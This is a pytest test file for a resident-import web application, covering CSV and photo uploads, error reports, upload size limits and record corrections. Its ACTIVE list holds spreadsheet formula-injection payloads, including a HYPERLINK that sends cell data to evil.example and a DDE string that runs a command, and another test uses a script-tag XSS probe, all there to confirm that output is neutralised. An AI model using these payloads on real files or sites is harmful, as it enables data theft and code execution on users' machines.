"""Importing residents over the web, and lists that go back to a spreadsheet (S44)."""

import asyncio
import csv
import re
from io import BytesIO, StringIO
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from suket.intake.import_residents import Upload, import_residents
from suket.register.tables import Batch, BatchItem, Suket
from suket.register.words import EndReason
from suket.residents.tables import Resident
from suket.web.csv_export import lines, safe
from suket.web.office.importing.example_tables import COLUMNS, EXAMPLE
from suket.web.office.importing.upload_page import REMARKS_SHOWN, UPLOAD_BYTES
from tests.office_world import SERANG, jpeg, nik_of
from tests.suket.web.office.office_counter import hidden, ordered, text_of


def table(*rows):
    """Return a CSV of the example with changes, one row for each."""
    out = StringIO()
    writer = csv.DictWriter(out, [name for name in COLUMNS if name != "foto"])
    writer.writeheader()
    for over in rows:
        values = {**EXAMPLE, **over}
        values.pop("foto", None)
        writer.writerow(values)
    return out.getvalue().encode()


def people(counter):
    return counter.world.all(select(func.count()).select_from(Resident))[0]


def zipped(**files):
    out = BytesIO()
    with ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def with_photos(browser, data, **files):
    pictures = ("f.zip", zipped(**files))
    return put(browser, data, files={"tabel": ("t.csv", data), "foto": pictures})


def put(browser, data, files=None):
    sent = files or {"tabel": ("t.csv", data)}
    return browser.post("/petugas/impor", files=sent)


def test_a_good_table_is_stored_and_the_way_leads_on_to_issuing(counter):
    browser = counter.officer()
    rows = [{"nik": nik_of(n), "jenis_kelamin": "PEREMPUAN"} for n in range(3)]
    photos = {f"{nik_of(n)} SITI.jpg": jpeg(n) for n in range(2)}
    page = with_photos(browser, table(*rows), **photos)
    told = text_of(page.text)
    assert "3 penduduk tersimpan" in told
    assert "3 baru, 0 diperbarui" in told
    assert "2 foto tersimpan" in told
    assert "2 siap diterbitkan" in told
    assert "1 belum ada pas foto" in told
    assert people(counter) == 3
    where = re.search(r'href="(/petugas/massal/pilih[^"]+)"', page.text)[1]
    ordered(browser, where)
    assert counter.world.all(select(Batch.total)) == [2]


def test_issuing_to_those_of_one_import_leaves_the_others_waiting(counter):
    counter.world.add(nik=nik_of(50), updated_at=counter.now)
    counter.later(minutes=1)
    browser = counter.officer()
    data = table({"nik": nik_of(1)})
    page = with_photos(browser, data, **{f"{nik_of(1)}.jpg": jpeg()})
    where = re.search(r'href="(/petugas/massal/pilih[^"]+)"', page.text)[1]
    ordered(browser, where)
    ids = counter.world.all(select(BatchItem.resident_id))
    niks = counter.world.all(select(Resident.nik).where(Resident.id.in_(ids)))
    assert niks == [nik_of(1)]


def test_what_became_of_the_photos_is_told_by_name(counter):
    files = {
        f"{nik_of(1)}.jpg": jpeg(),
        f"{nik_of(9)}.jpg": jpeg(),
        "budi.jpg": jpeg(),
        "Thumbs.db": b"",
    }
    page = with_photos(counter.officer(), table({"nik": nik_of(1)}), **files)
    told = text_of(page.text)
    assert "1 foto tersimpan" in told
    assert "2 berkas foto tidak dipakai" in told
    assert "budi.jpg" in told
    assert f"{nik_of(9)}.jpg" in told
    assert "Thumbs.db" not in told


def test_the_good_rows_are_taken_when_the_officer_says_so(counter):
    browser = counter.officer()
    rows = [{"nik": nik_of(n)} for n in range(2)]
    page = with_photos(
        browser, table(*rows, {"nik": "12"}), **{f"{nik_of(0)}.jpg": jpeg()}
    )
    assert page.status_code == 422
    assert "Simpan 2 baris yang benar" in text_of(page.text)
    assert people(counter) == 0
    held = {"unggahan": hidden(page.text, "unggahan")}
    other = counter.officer("budi").post("/petugas/impor/sebagian", held)
    assert other.status_code == 404
    page = browser.post("/petugas/impor/sebagian", held)
    told = text_of(page.text)
    assert "2 penduduk tersimpan" in told
    assert "1 baris ditolak" in told
    assert "1 foto tersimpan" in told
    assert people(counter) == 2
    assert [row[1] for row in report_of(browser, page)[1:]] == ["4"]
    assert browser.post("/petugas/impor/sebagian", held).status_code == 404


def test_a_table_of_bad_rows_only_offers_nothing_to_take(counter):
    page = put(counter.officer(), table({"nik": "12"}))
    assert "baris yang benar" not in page.text


def test_photos_come_alone_as_a_zip_or_as_pictures(counter):
    for serial in range(3):
        counter.world.add(nik=nik_of(serial), photo_digest=None)
    counter.later(minutes=1)
    browser = counter.officer()
    data = zipped(**{f"a/{nik_of(0)}_SITI.jpg": jpeg(1), "x.jpg": jpeg()})
    page = put(browser, b"", {"foto": ("f.zip", data)})
    told = text_of(page.text)
    assert "1 foto tersimpan" in told
    assert "1 siap diterbitkan" in told
    assert "x.jpg" in told
    singly = [("foto", (f"{nik_of(n)} (1).jpg", jpeg(n))) for n in (1, 2)]
    page = put(browser, b"", singly)
    assert "2 foto tersimpan" in text_of(page.text)
    assert None not in counter.world.all(select(Resident.photo_digest))


def test_a_zip_beside_pictures_is_refused_beside_the_field(counter):
    files = [("foto", ("f.zip", zipped(a=b""))), ("foto", ("x.jpg", jpeg()))]
    page = put(counter.officer(), b"", files)
    assert page.status_code == 422
    assert 'id="foto-error"' in page.text


def test_one_bad_row_and_nothing_is_stored(counter):
    browser = counter.officer()
    data = table({"nik": nik_of(1)}, {"nik": "12", "tanggal_lahir": "2003-13-01"})
    page = put(browser, data)
    assert page.status_code == 422
    told = text_of(page.text)
    assert "Belum ada yang disimpan" in told
    assert "1 dari 2 baris perlu diperbaiki" in told
    assert "NIK harus 16 angka" in told
    assert "Tulis tanggal yang benar" in told
    assert people(counter) == 0


def report_of(browser, page):
    """Return heading and refusals of the file that an import hands back as CSV."""
    where = re.search(r'href="(/petugas/impor/catatan.csv[^"]+)"', page.text)[1]
    text = browser.get(where).text
    assert text.startswith("\ufeff")
    heading, *rows = csv.reader(StringIO(text[1:]), delimiter=";")
    return [heading, *(row for row in rows if row[0] == "ditolak")]


def test_the_report_names_row_column_value_reason_and_remedy(counter):
    browser = counter.officer()
    page = put(browser, table({}, {"nik": nik_of(1), "tempat_lahir": ""}))
    heading, row = report_of(browser, page)
    told = dict(zip(heading, row, strict=True))
    assert told == {
        "hasil": "ditolak",
        "baris": "3",
        "nama_lengkap": EXAMPLE["nama_lengkap"],
        "akhir_nik": f"…{nik_of(1)[-4:]}",
        "kolom": "tempat_lahir",
        "isi": "",
        "kode": "KOSONG",
        "cara_memperbaiki": "Kolom ini wajib diisi.",
    }


def test_all_remarks_are_in_the_file_however_many_are_shown(counter):
    browser = counter.officer()
    rows = [{"nik": nik_of(n), "nama_lengkap": ""} for n in range(REMARKS_SHOWN + 5)]
    page = put(browser, table(*rows))
    assert page.text.count("Kolom ini wajib diisi") == 1  # many alike are told as one
    assert f"2–{len(rows) + 1}" in text_of(page.text)
    assert len(report_of(browser, page)) == 1 + len(rows)
    where = re.search(r'href="(/petugas/impor/catatan.xlsx[^"]+)"', page.text)[1]
    sheet = load_workbook(BytesIO(browser.get(where).content)).active
    assert sheet.max_row > len(rows)
    assert sheet["B2"].value == 2


ACTIVE = [
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "＝1+1",
    "  -1",
]


@pytest.mark.parametrize("cell", ACTIVE)
def test_no_cell_of_a_file_we_write_can_act(cell):
    text = "".join(lines(["a"], [[cell]]))
    assert safe(cell) == f"'{cell}"
    assert text.splitlines(keepends=True)[1].startswith("\"'")


@pytest.mark.parametrize("cell", ["SITI", "3274 0141", "470/1", "", "a=b", "d-e"])
def test_an_honest_cell_is_left_as_it_is(cell):
    assert safe(cell) == cell


@pytest.mark.parametrize("cell", [cell for cell in ACTIVE if "\0" not in cell])
def test_what_a_refused_table_held_comes_back_harmless(counter, cell):
    browser = counter.officer()
    page = put(browser, table({"nama_lengkap": f"{cell}☃"}))
    rows = report_of(browser, page)[1:]
    values = [row[5] for row in rows if row[4] == "nama_lengkap"]
    assert values
    for value in values:
        assert not value.strip().startswith(("=", "+", "-", "@", "＝"))


def test_what_a_refused_table_held_is_text_on_the_page(counter):
    page = put(counter.officer(), table({"nama_lengkap": "<script>alert(1)</script>"}))
    assert "<script>alert" not in page.text


@pytest.mark.parametrize(
    ("files", "field"),
    [
        ({}, "tabel"),
        ({"tabel": ("t.csv", b"")}, "tabel"),
        ({"tabel": ("t.csv", b"\x00\xff")}, "tabel"),
        ({"tabel": ("t.csv", b"nama\nSITI\n")}, "tabel"),
        ({"tabel": ("t.csv", table({})), "foto": ("f.zip", b"no zip")}, "foto"),
    ],
)
def test_a_file_that_cannot_be_read_is_named_beside_its_field(counter, files, field):
    page = counter.officer().post("/petugas/impor", files=files)
    assert page.status_code == 422
    assert f'<a href="#{field}">' in page.text
    assert f'id="{field}-error"' in page.text
    assert people(counter) == 0


def test_a_body_that_is_too_large_is_not_read(counter):
    browser = counter.officer()
    huge = {"Content-Length": str(UPLOAD_BYTES + 1)}
    form = {"Content-Type": "multipart/form-data; boundary=b", **huge}
    answer = browser.client.post("/petugas/impor", content=b"--b", headers=form)
    assert answer.status_code == 413


LARGE = 2**20  # more than a form, less than an import


def tasted(counter, headers):
    """Send a large import; return the status, and how much of the body was read."""
    read, sent = [], []

    async def receive():
        read.append(b"x" * LARGE)
        return {"type": "http.request", "body": read[-1], "more_body": len(read) < 3}

    async def send(message):
        sent.append(message)

    named = {"host": "suket.example", "content-type": "multipart/form-data; boundary=b"}
    pairs = {**named, **headers}.items()
    scope = {
        "type": "http",
        "method": "POST",
        "path": "/petugas/impor",
        "raw_path": b"/petugas/impor",
        "query_string": b"",
        "headers": [(name.encode(), value.encode()) for name, value in pairs],
    }
    asyncio.run(counter.app(scope, receive, send))
    return sent[0]["status"], sum(map(len, read))


@pytest.mark.parametrize("cookie", ["", "__Host-suket-petugas=guessed"])
def test_the_large_body_of_a_stranger_is_not_read(counter, cookie):
    headers = {"content-length": str(3 * LARGE), "cookie": cookie}
    assert tasted(counter, headers) == (401, 0)


def test_a_stranger_who_announces_no_length_is_stopped_at_once(counter):
    assert tasted(counter, {"transfer-encoding": "chunked"}) == (401, 0)


def test_the_large_body_of_a_session_that_is_over_is_not_read(counter):
    cookies = counter.officer().client.cookies
    cookie = "; ".join(f"{name}={value}" for name, value in cookies.items())
    headers = {"content-length": str(3 * LARGE), "cookie": cookie}
    assert tasted(counter, headers) == (400, LARGE)  # read, and not a form
    counter.later(hours=13)
    assert tasted(counter, headers) == (401, 0)


def test_an_officer_sends_a_table_larger_than_a_form(counter):
    pictures = BytesIO()
    with ZipFile(pictures, "w") as zipped:
        zipped.writestr("3274014107039999.jpg", bytes(LARGE))
    files = {"tabel": ("t.csv", table({})), "foto": ("f.zip", pictures.getvalue())}
    page = counter.officer().post("/petugas/impor", files=files)
    assert page.status_code in {200, 422}


def test_what_is_odd_but_lawful_is_stored_and_shown(counter):
    page = put(counter.officer(), table({"jenis_kelamin": "LAKI-LAKI"}))
    assert "Perlu dilihat sekali lagi" in page.text
    assert people(counter) == 1


def test_both_examples_can_be_uploaded_as_they_are(counter):
    browser = counter.officer()
    for path in ("contoh.csv", "contoh.xlsx"):
        data = browser.get(f"/petugas/impor/{path}").content
        report = import_residents(
            counter.world.database,
            Upload(table=data),
            officer=counter.world.officer(),
            now=counter.now,
        )
        assert (report.refused, report.warned, report.changed) == ((), (), ())
        page = put(browser, data)
        assert "1 penduduk tersimpan" in text_of(page.text)


def test_imports_of_one_second_are_two(counter):
    browser = counter.officer()
    pages = [
        with_photos(
            browser, table({"nik": nik_of(n)}), **{f"{nik_of(n)}.jpg": jpeg()}
        ).text
        for n in (1, 2)
    ]
    first, second = (re.search(r"lingkup=([\w-]{22})", page)[1] for page in pages)
    assert first != second
    assert "1 penduduk tersimpan" in text_of(pages[1])
    ordered(browser, f"/petugas/massal/pilih?lingkup={first}")
    ids = counter.world.all(select(BatchItem.resident_id))
    niks = counter.world.all(select(Resident.nik).where(Resident.id.in_(ids)))
    assert niks == [nik_of(1)]


def test_every_cell_of_the_workbook_is_text(counter):
    data = counter.officer().get("/petugas/impor/contoh.xlsx").content
    sheet = load_workbook(BytesIO(data)).active
    kinds = {(type(cell.value), cell.number_format) for cell in sheet[2] if cell.value}
    assert kinds == {(str, "@")}


def sent(**over):
    """Return the form of one resident, filled in."""
    return {**{name: EXAMPLE.get(name, "") for name in COLUMNS}, **over}


def test_one_resident_is_added_by_hand_with_a_photo(counter):
    browser = counter.officer()
    assert browser.get("/petugas/impor/satu").status_code == 200
    answer = browser.post(
        "/petugas/impor/satu", sent(), files={"foto": ("x.png", jpeg())}
    )
    page = browser.follow(answer)
    assert "Data tersimpan." in text_of(page.text)
    assert "Memenuhi syarat" in text_of(page.text)
    again = browser.post("/petugas/impor/satu", sent(nama_lengkap="ORANG LAIN CONTOH"))
    assert "sudah terdata" in text_of(again.text)
    assert counter.world.all(select(Resident.full_name)) == ["SITI CONTOH RAHAYU"]


def test_what_is_typed_is_refused_as_a_table_would_be_and_stays_typed(counter):
    browser = counter.officer()
    typed = sent(tanggal_lahir="2003-13-01", nama_lengkap="SITI ☃")
    page = browser.post("/petugas/impor/satu", typed)
    assert page.status_code == 422
    report = put(browser, table({"tanggal_lahir": "2003-13-01"}))
    [sentence] = {row[5] for row in report_of(browser, report)[1:]}
    assert sentence in page.text
    assert 'id="tanggal_lahir-error"' in page.text
    assert 'id="nama_lengkap-error"' in page.text
    assert 'value="SITI ☃"' in page.text
    assert people(counter) == 0


def test_a_resident_is_corrected_and_what_is_odd_is_said(counter):
    resident = counter.world.add(nik=nik_of(3), region_code="32.74.01.1001")
    browser = counter.officer()
    where = f"/petugas/penduduk/{resident}/ubah"
    page = browser.get(where)
    assert 'value="SITI CONTOH RAHAYU"' in page.text
    fields = sent(nik=nik_of(4), nama_lengkap="SITI CONTOH BARU 2")
    page = browser.post(where, fields)
    assert "Nama memuat angka" in text_of(page.text)
    found = counter.world.all(select(Resident.nik, Resident.full_name))
    assert found == [(nik_of(3), "SITI CONTOH BARU 2")]


def test_the_form_of_a_resident_sent_as_it_stands_changes_nothing(counter):
    resident = counter.world.add(nik=EXAMPLE["nik"], region_code="32.74.01.1001")
    browser = counter.officer()
    where = f"/petugas/penduduk/{resident}/ubah"
    page = browser.get(where).text
    fields = dict(
        re.findall(r'<input[^>]* name="(\w+)" type="text" value="([^"]*)"', page)
    )
    for name, options in re.findall(
        r'<select[^>]* name="(\w+)".*?>(.*?)</select>', page, re.DOTALL
    ):
        fields[name] = re.search(r'value="([^"]*)" selected', options)[1]
    before = [row_of(one) for one in counter.world.all(select(Resident))]
    assert browser.post(where, fields).status_code == 303
    assert [row_of(one) for one in counter.world.all(select(Resident))] == before


def row_of(resident):
    """Return what is known of a resident, but for when."""
    columns = {column.name for column in Resident.__table__.columns}
    columns -= {"updated_at", "import_id", "import_row", "imported_at"}
    told = {name: getattr(resident, name) for name in columns}
    return {**told, "village": told["village"].upper()}


def test_one_portrait_is_given_and_replaced_at_the_residents_page(counter):
    resident = counter.world.add(nik=nik_of(3), photo_digest=None)
    browser = counter.officer()
    assert "Unggah foto" in browser.get(f"/petugas/penduduk/{resident}").text

    def hand_in(data):
        files = {"pasfoto": ("IMG_1.jpg", data)} if data else None
        return browser.post("/petugas/impor/foto", {"penduduk": resident}, files=files)

    for bad in (b"", b"no picture"):
        page = hand_in(bad)
        assert page.status_code == 422
        assert 'id="pasfoto-error"' in page.text
    assert "Foto tersimpan." in browser.follow(hand_in(jpeg(3))).text
    [first] = counter.world.all(select(Resident.photo_digest))
    hand_in(jpeg(200))
    assert counter.world.all(select(Resident.photo_digest)) != [first]


def test_another_offices_resident_gets_no_portrait_here(counter):
    other = counter.world.add(SERANG, nik="3673014107039901", photo_digest=None)
    files = {"pasfoto": ("a.jpg", jpeg())}
    answer = counter.officer().post(
        "/petugas/impor/foto", {"penduduk": other}, files=files
    )
    assert answer.status_code == 404
    assert counter.world.all(select(Resident.photo_digest)) == [None]


def test_a_change_under_a_suket_in_force_is_told_wherever_it_matters(counter):
    browser = counter.officer()
    resident = counter.world.add(nik=EXAMPLE["nik"], region_code="32.74.01.1001")
    suket = counter.world.issue(resident).suket_id
    counter.later(minutes=1)
    page = put(browser, table({"alamat": "JL. BARU NO. 1"}))
    assert "1 penduduk datanya kini berbeda dari suket" in text_of(page.text)
    assert "1 suket berbeda" in text_of(browser.get("/petugas").text)
    for where in (
        "/petugas/berbeda",
        f"/petugas/penduduk/{resident}",
        f"/petugas/suket/{suket}",
    ):
        shown = browser.get(where).text
        assert "JL. BARU NO. 1" in shown
        assert f"/petugas/suket/{suket}/perpanjang" in shown
    lines = browser.get("/petugas/berbeda.csv").text
    assert '"Alamat";"JL. CONTOH NO. 9";"JL. BARU NO. 1"' in lines
    way = f"/petugas/suket/{suket}/perpanjang?dari=berbeda"
    assert way in browser.get("/petugas/berbeda").text
    page = browser.get(way).text
    assert "Ganti suket Periksa sebelum mengganti" in text_of(page)
    assert "JL. CONTOH NO. 9 → JL. BARU NO. 1" in text_of(page)
    assert f'action="{way}"' in page
    done = browser.follow(browser.post(way)).text
    assert "kembali ke daftar data berbeda" in text_of(done)
    reasons = counter.world.all(select(Suket.end_reason).order_by(Suket.serial))
    assert reasons == [EndReason.DATA_BERUBAH, None]
    assert "berbeda" not in text_of(browser.get("/petugas").text)
